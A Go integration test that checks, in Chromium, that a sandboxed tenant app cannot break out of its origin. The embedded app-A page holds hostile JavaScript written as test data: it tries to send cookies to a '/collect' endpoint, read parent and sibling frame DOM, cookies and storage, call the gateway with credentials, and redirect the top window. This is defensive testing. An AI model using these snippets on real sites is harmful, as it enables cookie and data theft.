package integration_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/forgeapps/backbone/pkg/devca"
	"github.com/forgeapps/backbone/pkg/testkit/stacktest"
	"github.com/forgeapps/backbone/pkg/workload"

	"github.com/forgeapps/backbone/services/sandbox-origin/internal/origin"
)

const (
	keyA = "sk-tenant-a-4f1d9c2b7e3a5d6f8091a2b3c4d5e6f7"
	keyB = "sk-tenant-b-0a9b8c7d6e5f40312a3b4c5d6e7f8091"
)

// world is the running suite plus what the test serves itself.
type world struct {
	t       *testing.T
	st      *stacktest.Stack
	api     *http.Client
	gateway string
	// sandboxAddr is where every app origin is served (Chromium resolves *.localhost to it).
	sandboxAddr string
	domain      origin.Domain
	console     string

	mu       sync.Mutex
	upstream []string // Authorization headers the upstream received
}

func (w *world) call(method, path, bearer string, body any) (int, map[string]any) {
	w.t.Helper()
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		require.NoError(w.t, err)
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, w.gateway+path, rd)
	require.NoError(w.t, err)
	req.Header.Set("Content-Type", "application/json")
	if bearer != "" {
		req.Header.Set("Authorization", "Bearer "+bearer)
	}
	resp, err := w.api.Do(req)
	require.NoError(w.t, err)
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	require.NoError(w.t, err)
	var m map[string]any
	_ = json.Unmarshal(raw, &m)
	return resp.StatusCode, m
}

func (w *world) must(method, path, bearer string, body any) map[string]any {
	w.t.Helper()
	code, m := w.call(method, path, bearer, body)
	require.Equal(w.t, http.StatusOK, code, "%s %s: %v", method, path, m)
	return m
}

func (w *world) signIn(email string) string {
	w.t.Helper()
	tok := w.must(http.MethodPost, "/dev/idp/token", "", map[string]string{"email": email})["id_token"].(string)
	return w.must(http.MethodPost, "/v1/auth/signin", "", map[string]string{"id_token": tok})["sessionToken"].(string)
}

// createApp makes an app with one version of files and returns its ID.
func (w *world) createApp(bearer, name string, files map[string]string) uuid.UUID {
	w.t.Helper()
	app := w.must(http.MethodPost, "/v1/apps", bearer, map[string]string{"name": name})["app"].(map[string]any)
	id := uuid.MustParse(app["appId"].(string))
	var fs []map[string]string
	for p, c := range files {
		ct := "text/html"
		fs = append(fs, map[string]string{"path": p, "contentType": ct, "content": base64.StdEncoding.EncodeToString([]byte(c))})
	}
	w.must(http.MethodPost, "/v1/apps/"+id.String()+"/versions", bearer, map[string]any{"files": fs})
	return id
}

func (w *world) ticketURL(bearer string, app uuid.UUID) string {
	w.t.Helper()
	return w.must(http.MethodPost, "/v1/apps/"+app.String()+"/view-tickets", bearer, map[string]string{})["url"].(string)
}

// sandboxStatus asks the sandbox for an app page over HTTPS (Go does not resolve
// *.localhost, so the client dials the sandbox and sends the app's name).
func (w *world) sandboxStatus(app uuid.UUID) int {
	w.t.Helper()
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, //nolint:gosec // test CA; the name is checked by the host rules
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, network, w.sandboxAddr)
		},
	}, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Get(w.domain.Origin(app) + "/")
	require.NoError(w.t, err)
	_ = resp.Body.Close()
	return resp.StatusCode
}

// upstreamServer is the third-party API the apps' secrets point at: a loopback TLS server for
// the name api.upstream.test, which the sandbox is configured to resolve to it.
func upstreamServer(t *testing.T, w *world) (host string, caFile string) {
	t.Helper()
	ca, err := devca.New("upstream CA", time.Hour)
	require.NoError(t, err)
	certPEM, keyPEM, err := ca.Issue(devca.IssueRequest{DNSNames: []string{"api.upstream.test"}})
	require.NoError(t, err)
	cert, err := tls.X509KeyPair(certPEM, keyPEM)
	require.NoError(t, err)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.mu.Lock()
		w.upstream = append(w.upstream, r.Header.Get("Authorization"))
		w.mu.Unlock()
		rw.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(rw, `{"completion":"hello from the upstream"}`)
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	caFile = filepath.Join(t.TempDir(), "upstream-ca.pem")
	require.NoError(t, os.WriteFile(caFile, ca.CertPEM(), 0o600))
	_, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	return "api.upstream.test:" + port, caFile
}

// consoleServer serves the console page on https://localhost:<port>; page is set later.
func consoleServer(t *testing.T) (lis net.Listener, origin string, setPage func(string), collected func() int) {
	t.Helper()
	ca, err := devca.New("console CA", time.Hour)
	require.NoError(t, err)
	certPEM, keyPEM, err := ca.Issue(devca.IssueRequest{DNSNames: []string{"localhost"}})
	require.NoError(t, err)
	cert, err := tls.X509KeyPair(certPEM, keyPEM)
	require.NoError(t, err)
	lis, err = net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	var mu sync.Mutex
	page := ""
	hits := 0
	srv := &http.Server{
		Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			if strings.HasPrefix(r.URL.Path, "/collect") {
				// Where app A tries to send what it could read: any request here is a leak.
				mu.Lock()
				hits++
				mu.Unlock()
				rw.Header().Set("Access-Control-Allow-Origin", "*")
				rw.WriteHeader(http.StatusNoContent)
				return
			}
			mu.Lock()
			p := page
			mu.Unlock()
			rw.Header().Set("Content-Type", "text/html; charset=utf-8")
			rw.Header().Set("Referrer-Policy", "no-referrer")
			_, _ = io.WriteString(rw, p)
		}),
		TLSConfig:         &tls.Config{Certificates: []tls.Certificate{cert}},
		ReadHeaderTimeout: 10 * time.Second,
	}
	go func() { _ = srv.ServeTLS(lis, "", "") }()
	t.Cleanup(func() { _ = srv.Close() })
	return lis, fmt.Sprintf("https://localhost:%d", lis.Addr().(*net.TCPAddr).Port), func(s string) {
			mu.Lock()
			defer mu.Unlock()
			page = s
		}, func() int {
			mu.Lock()
			defer mu.Unlock()
			return hits
		}
}

// TestIsolationInABrowser is the sandbox's promise, checked in Chromium: a console page on the
// product origin embeds a private app of tenant A (opened with a view ticket) and a public app
// of tenant B, each on its own origin; scripts in A try everything an app must not be able to
// do, record each attempt, and report to the console. Then the ticket rules and unpublishing
// are checked with top-level navigations.
func TestIsolationInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("starts five services and a browser")
	}
	ctx := browser(t)
	w := &world{t: t}
	consoleLis, consoleOrigin, setPage, collected := consoleServer(t)
	_ = consoleLis
	w.console = consoleOrigin
	upHost, upCA := upstreamServer(t, w)

	w.st = stacktest.Start(t, stacktest.Options{
		Services: []string{workload.SecretsVault, workload.Tenant, workload.Apps, workload.SandboxOrigin, workload.Gateway},
		DevMode:  true,
		Env: map[string][]string{
			workload.Gateway: {"FORGE_CONSOLE_ORIGIN=" + consoleOrigin, "FORGE_RATE_IP_RPS=100000", "FORGE_RATE_IP_BURST=100000"},
			workload.SandboxOrigin: {"FORGE_CONSOLE_ORIGIN=" + consoleOrigin, "FORGE_LOG_LEVEL=debug",
				"FORGE_PROXY_ALLOW_HOSTS=" + upHost + "=127.0.0.1", "FORGE_PROXY_ROOT_CAS=" + upCA},
		},
	})
	w.api = w.st.HTTPClient(t)
	w.gateway = w.st.GatewayURL
	w.sandboxAddr = strings.TrimPrefix(w.st.Env(workload.SandboxOrigin, "FORGE_HTTP_ADDR"), "https://")
	var err error
	w.domain, err = origin.ParseDomain(w.st.Env(workload.SandboxOrigin, "FORGE_SANDBOX_DOMAIN"))
	require.NoError(t, err)

	alice, bob := w.signIn("alice@example.com"), w.signIn("bob@example.com")

	appB := w.createApp(bob, "bob's public app", map[string]string{"index.html": strings.NewReplacer(
		"{{CONSOLE}}", consoleOrigin).Replace(appBPage)})
	w.must(http.MethodPost, "/v1/apps/"+appB.String()+":publish", bob, map[string]string{})
	injection := map[string]string{"kind": "KIND_HEADER", "headerName": "Authorization", "prefix": "Bearer "}
	w.must(http.MethodPost, "/v1/apps/"+appB.String()+"/secrets", bob, map[string]any{
		"name": "upstreamb", "value": keyB, "upstreamHost": upHost, "injection": injection})

	appA := w.createApp(alice, "alice's private app", map[string]string{"index.html": strings.NewReplacer(
		"{{CONSOLE}}", consoleOrigin, "{{GATEWAY}}", w.gateway, "{{APPB}}", w.domain.Origin(appB)).Replace(appAPage)})
	w.must(http.MethodPost, "/v1/apps/"+appA.String()+"/secrets", alice, map[string]any{
		"name": "upstream", "value": keyA, "upstreamHost": upHost, "injection": injection})
	require.Equal(t, http.StatusNotFound, w.sandboxStatus(appA), "a private app without a ticket")
	require.Equal(t, http.StatusOK, w.sandboxStatus(appB))

	ticket := w.ticketURL(alice, appA)
	require.True(t, strings.HasPrefix(ticket, w.domain.Origin(appA)+"/?forge_ticket="), ticket)
	setPage(strings.NewReplacer("AORIGIN", w.domain.Origin(appA), "BORIGIN", w.domain.Origin(appB),
		"ATICKET", ticket, "BURL", w.domain.Origin(appB)+"/").Replace(consolePage))

	// The console holds alice's gateway session, as the real console would.
	require.NoError(t, chromedp.Do(ctx, chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		yes := true
		_, err := cdp.Call(ctx, tg, network.SetCookie, network.SetCookieParams{Name: "__Host-forge_session", Value: alice,
			URL: w.gateway + "/", Path: "/", Secure: &yes, HTTPOnly: &yes, SameSite: network.CookieSameSiteLax})
		return err
	})))

	var report string
	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(consoleOrigin+"/")))
	deadline := time.Now().Add(20 * time.Second)
	for report == "" || report == "null" {
		if time.Now().After(deadline) {
			dbg, _ := chromedp.Run(ctx, chromedp.Evaluate[string]("JSON.stringify({log: window.__log, a: document.getElementById('a').src})"))
			t.Fatalf("app A never reported; console saw %s", dbg)
		}
		r, err := chromedp.Run(ctx, chromedp.Evaluate[string]("JSON.stringify(window.__results)"))
		require.NoError(t, err)
		report = r
	}
	t.Logf("attempts from inside app A: %s", report)
	var attempts []struct {
		Name   string `json:"name"`
		Leaked bool   `json:"leaked"`
		Detail string `json:"detail"`
	}
	require.NoError(t, json.Unmarshal([]byte(report), &attempts))
	want := []string{"exfiltrate with fetch", "exfiltrate with sendBeacon", "exfiltrate with an image", "console DOM", "console DOM via top", "console cookies", "console storage", "app B DOM", "app B storage",
		"own cookie jar", "gateway API with credentials", "gateway API no-cors", "app B proxy", "app B proxy no-cors",
		"navigate the console", "own proxy"}
	var got []string
	for _, a := range attempts {
		got = append(got, a.Name)
		if a.Name == "own proxy" {
			require.True(t, a.Leaked, "app A's own proxy call must succeed: %s", a.Detail)
			require.Contains(t, a.Detail, "hello from the upstream")
			continue
		}
		require.False(t, a.Leaked, "%s succeeded from inside app A: %s", a.Name, a.Detail)
	}
	require.ElementsMatch(t, want, got)
	require.Zero(t, collected(), "app A sent nothing to another site")
	require.NotContains(t, report, keyA, "the page never sees the key")
	require.NotContains(t, report, keyB)
	require.NotContains(t, report, "CONSOLE-", "nothing of the console")
	require.NotContains(t, report, "APP-B-", "nothing of app B")

	// The console is still the console (app A could not navigate it away).
	loc, err := chromedp.Run(ctx, chromedp.Evaluate[string]("location.origin + ':' + document.getElementById('secret').textContent"))
	require.NoError(t, err)
	require.Equal(t, consoleOrigin+":CONSOLE-DOM-SECRET", loc)
	w.mu.Lock()
	require.Equal(t, []string{"Bearer " + keyA}, w.upstream, "only app A's own call reached the upstream, with A's key")
	w.mu.Unlock()

	page := func(url string) string {
		tab, cancel := chromedp.NewContext(ctx)
		defer cancel()
		require.NoError(t, chromedp.Do(tab, chromedp.Navigate(url)))
		text, err := chromedp.Run(tab, chromedp.Text(chromedp.CSS("body")))
		require.NoError(t, err)
		return text
	}
	t.Run("private app without a ticket shows nothing", func(t *testing.T) {
		require.Equal(t, "not found", strings.TrimSpace(page(w.domain.Origin(appA)+"/")))
	})
	t.Run("a reused ticket is refused", func(t *testing.T) {
		require.Equal(t, "not found", strings.TrimSpace(page(ticket)))
	})
	t.Run("a fresh ticket opens the app at the top level too", func(t *testing.T) {
		require.Contains(t, page(w.ticketURL(alice, appA)), "APP-A-CONTENT")
	})
	t.Run("an expired ticket is refused", func(t *testing.T) {
		expired := w.ticketURL(alice, appA)
		pool := w.st.MigratorPool(t, workload.SandboxOrigin)
		tag, err := pool.Exec(context.Background(), `UPDATE sandbox.view_tickets SET expire_time = now() - interval '1 second'`)
		require.NoError(t, err)
		require.EqualValues(t, 1, tag.RowsAffected())
		require.Equal(t, "not found", strings.TrimSpace(page(expired)))
	})
	t.Run("bob cannot get a ticket for alice's app", func(t *testing.T) {
		code, _ := w.call(http.MethodPost, "/v1/apps/"+appA.String()+"/view-tickets", bob, map[string]string{})
		require.Equal(t, http.StatusNotFound, code)
	})
	t.Run("after unpublishing, the app stops being served within a second", func(t *testing.T) {
		require.Contains(t, page(w.domain.Origin(appB)+"/"), "APP-B-DOM-SECRET")
		w.must(http.MethodPost, "/v1/apps/"+appB.String()+":unpublish", bob, map[string]string{})
		changed := time.Now()
		for w.sandboxStatus(appB) != http.StatusNotFound {
			require.True(t, time.Since(changed) < time.Second, "still served %v after the change", time.Since(changed))
		}
		t.Logf("refused %v after the change", time.Since(changed))
		require.Equal(t, "not found", strings.TrimSpace(page(w.domain.Origin(appB)+"/")))
	})
	logs := w.st.Logs()
	require.NotContains(t, logs, keyA, "no key in any service's output")
	require.NotContains(t, logs, keyB)
}

const consolePage = `<!doctype html><html><head><title>console</title></head><body>
<p id="secret">CONSOLE-DOM-SECRET</p>
<script>
document.cookie = "console_secret=CONSOLE-COOKIE-SECRET; Secure; SameSite=None; Path=/";
localStorage.setItem("console_secret", "CONSOLE-STORAGE-SECRET");
window.__results = null;
let bReady = false, aReady = false;
function go() { if (aReady && bReady) document.getElementById("a").contentWindow.postMessage("go", "AORIGIN"); }
window.__log = [];
window.addEventListener("message", (e) => {
  window.__log.push(e.origin + " " + JSON.stringify(e.data).slice(0, 100));
  if (e.origin === "BORIGIN" && e.data && e.data.kind === "ready") { bReady = true; go(); }
  if (e.origin === "AORIGIN" && e.data && e.data.kind === "ready") { aReady = true; go(); }
  if (e.origin === "AORIGIN" && e.data && e.data.kind === "results") { window.__results = e.data.attempts; }
});
</script>
<iframe id="b" src="BURL"></iframe>
<iframe id="a" src="ATICKET"></iframe>
</body></html>`

const appBPage = `<!doctype html><html><body><p id="b-secret">APP-B-DOM-SECRET</p>
<script>
localStorage.setItem("b_secret", "APP-B-STORAGE-SECRET");
parent.postMessage({kind: "ready"}, "{{CONSOLE}}");
</script></body></html>`

// appAPage records every attempt as {name, leaked, detail}: leaked means the attempt worked.
const appAPage = `<!doctype html><html><body><p>APP-A-CONTENT</p>
<script>
const attempts = [];
function rec(name, leaked, detail) { attempts.push({name, leaked, detail: String(detail).slice(0, 300)}); }
function trySync(name, fn) { try { rec(name, true, fn()); } catch (e) { rec(name, false, e.name); } }
async function tryAsync(name, fn) { try { rec(name, true, await fn()); } catch (e) { rec(name, false, e.name + ": " + e.message); } }
async function run() {
  await tryAsync("exfiltrate with fetch", async () => {
    const r = await fetch("{{CONSOLE}}/collect?via=fetch", {method: "POST", mode: "no-cors", body: document.cookie}); return "sent: " + r.type; });
  // sendBeacon answers before the browser applies the policy: the console server's count of
  // what reached it is the verdict for this one.
  rec("exfiltrate with sendBeacon", false, "queued: " + navigator.sendBeacon("{{CONSOLE}}/collect?via=beacon", "x"));
  await tryAsync("exfiltrate with an image", () => new Promise((ok, fail) => {
    const img = new Image(); img.onload = () => ok("loaded"); img.onerror = () => fail(new Error("blocked"));
    img.src = "{{CONSOLE}}/collect?via=image"; }));
  trySync("console DOM", () => parent.document.getElementById("secret").textContent);
  trySync("console DOM via top", () => top.document.body.innerHTML);
  trySync("console cookies", () => parent.document.cookie);
  trySync("console storage", () => parent.localStorage.getItem("console_secret"));
  trySync("app B DOM", () => parent.frames[0].document.getElementById("b-secret").textContent);
  trySync("app B storage", () => parent.frames[0].localStorage.getItem("b_secret"));
  const jar = document.cookie + " " + (localStorage.getItem("console_secret") || "") + " " + (localStorage.getItem("b_secret") || "");
  rec("own cookie jar", /forge_|CONSOLE-|APP-B-/.test(jar), jar);
  await tryAsync("gateway API with credentials", async () => {
    const r = await fetch("{{GATEWAY}}/v1/account", {credentials: "include"}); return r.status + " " + await r.text(); });
  await tryAsync("gateway API no-cors", async () => {
    const r = await fetch("{{GATEWAY}}/v1/account", {credentials: "include", mode: "no-cors"}); return "sent: " + r.type; });
  await tryAsync("app B proxy", async () => {
    const r = await fetch("{{APPB}}/__forge/proxy/upstreamb/v1/complete", {method: "POST", credentials: "include"}); return r.status + " " + await r.text(); });
  await tryAsync("app B proxy no-cors", async () => {
    const r = await fetch("{{APPB}}/__forge/proxy/upstreamb/v1/complete", {method: "POST", mode: "no-cors"}); return "sent: " + r.type; });
  trySync("navigate the console", () => { top.location.href = "https://example.invalid/"; return "navigation started"; });
  await tryAsync("own proxy", async () => {
    const r = await fetch("/__forge/proxy/upstream/v1/complete", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"});
    if (!r.ok) throw new Error("status " + r.status);
    return await r.text(); });
  parent.postMessage({kind: "results", attempts}, "{{CONSOLE}}");
}
window.addEventListener("message", (e) => { if (e.origin === "{{CONSOLE}}" && e.data === "go") run(); });
parent.postMessage({kind: "ready"}, "{{CONSOLE}}");
</script></body></html>`
